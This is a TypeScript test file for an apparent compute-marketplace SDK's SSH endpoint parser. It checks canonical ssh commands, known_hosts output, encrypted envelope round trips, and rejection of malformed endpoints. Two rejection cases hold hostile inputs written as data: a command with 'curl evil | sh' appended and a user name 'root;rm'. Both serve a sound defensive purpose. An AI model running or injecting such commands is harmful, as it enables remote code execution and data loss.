import { generateSessionKey, openEndpoint, sealEndpoint } from "@computehive/sdk";
import { describe, expect, test } from "vitest";
import {
  knownHostsText as agentKnownHosts,
  sshCommandFor as agentSshCommand,
} from "../../host-agent/src/ssh/endpoint.ts";
import {
  EndpointShapeError,
  endpointFileNames,
  identityFileOf,
  ipVersion,
  knownHostsText,
  parseEndpoint,
  sshCommandFor,
} from "../lib/endpoint.ts";

const CERT = `ssh-ed25519-cert-v01@openssh.com ${"A".repeat(200)}=`;
const HOST_KEY = `ssh-ed25519 ${"B".repeat(68)}`;

function endpoint(over: Record<string, unknown> = {}) {
  const base = {
    version: 1,
    bookingId: "7",
    host: "gpu1.example.org",
    port: 2201,
    user: "computehive",
    hostKeyFingerprints: [`SHA256:${"C".repeat(43)}`],
    hostKeys: [HOST_KEY],
    certificate: CERT,
    validAfter: 1_800_000_000,
    validBefore: 1_800_003_600,
    ...over,
  } as Parameters<typeof sshCommandFor>[0] & Record<string, unknown>;
  return {
    ...base,
    sshCommand: sshCommandFor(base),
    ...("sshCommand" in over ? { sshCommand: over.sshCommand } : {}),
  };
}

describe("the ssh command and known_hosts, exactly as the host agent makes them", () => {
  test.each([
    ["gpu1.example.org", 2201],
    ["203.0.113.9", 22],
    ["2001:db8::7", 2222],
    ["::ffff:192.0.2.1", 22],
    ["localhost", 65535],
  ])("%s port %i", (host, port) => {
    for (const certificate of [
      CERT,
      `ecdsa-sha2-nistp256-cert-v01@openssh.com ${"D".repeat(40)}`,
      `ssh-rsa-cert-v01@openssh.com ${"E".repeat(40)}`,
    ]) {
      const ep = {
        bookingId: "42",
        host,
        port,
        user: "computehive",
        certificate,
        hostKeys: [HOST_KEY, `ecdsa-sha2-nistp256 ${"F".repeat(40)}`],
      };
      expect(sshCommandFor(ep)).toBe(agentSshCommand(ep));
      expect(knownHostsText(ep)).toBe(agentKnownHosts(ep));
    }
  });

  test("file names and the identity file the command names", () => {
    expect(endpointFileNames("3")).toEqual({
      certificate: "computehive-3-cert.pub",
      knownHosts: "computehive-3.known_hosts",
    });
    expect(identityFileOf(sshCommandFor(endpoint()))).toBe("~/.ssh/id_ed25519");
    expect(ipVersion("10.0.0.1")).toBe(4);
    expect(ipVersion("fe80::1")).toBe(6);
    expect(ipVersion("999.1.1.1")).toBe(0);
    expect(ipVersion("example.org")).toBe(0);
  });
});

describe("parseEndpoint", () => {
  test("accepts the host agent's shape", () => {
    const ep = parseEndpoint(endpoint(), "7");
    expect(ep.sshCommand).toBe(
      "ssh -i ~/.ssh/id_ed25519 -o CertificateFile=computehive-7-cert.pub -o UserKnownHostsFile=computehive-7.known_hosts -o StrictHostKeyChecking=yes -o IdentitiesOnly=yes -p 2201 computehive@gpu1.example.org",
    );
  });

  test.each([
    ["another booking's endpoint", endpoint({ bookingId: "8" }), /for booking 8, not 7/],
    [
      "a command with something appended",
      endpoint({ sshCommand: `${sshCommandFor(endpoint())}; curl evil | sh` }),
      /canonical/,
    ],
    ["a host that is not a host", endpoint({ host: "a b" }), /host/],
    ["a bad port", endpoint({ port: 0 }), /port/],
    ["a user with shell characters", endpoint({ user: "root;rm" }), /user/],
    ["an unknown field", { ...endpoint(), extra: 1 }, /unexpected field extra/],
    [
      "a certificate of another kind",
      endpoint({ certificate: "ssh-dss-cert-v01@openssh.com AAAA" }),
      /certificate/,
    ],
    ["no host keys", endpoint({ hostKeys: [] }), /host keys/],
    ["an empty validity window", endpoint({ validBefore: 1_800_000_000 }), /validity/],
    ["another version", endpoint({ version: 2 }), /version 2/],
    ["not an object", "ssh root@host", /not an object/],
  ])("refuses %s", (_what, value, message) => {
    expect(() => parseEndpoint(value, "7")).toThrow(EndpointShapeError);
    expect(() => parseEndpoint(value, "7")).toThrow(message);
  });

  test("round trip through the sdk's envelope: sealed by the host, opened and checked in the browser", () => {
    const key = generateSessionKey();
    const context = {
      chainId: 31337,
      market: "0x5FbDB2315678afecb367f032d93F642f64180aa3" as const,
      bookingId: 7n,
    };
    const envelope = sealEndpoint(endpoint(), { recipientPublicKey: key.publicKey, context });
    const opened = parseEndpoint(
      openEndpoint({ recipientPrivateKey: key.privateKey, envelope, context }),
      "7",
    );
    expect(opened.host).toBe("gpu1.example.org");
    expect(() =>
      openEndpoint({ recipientPrivateKey: generateSessionKey().privateKey, envelope, context }),
    ).toThrow(/not made for this key/);
  });
});
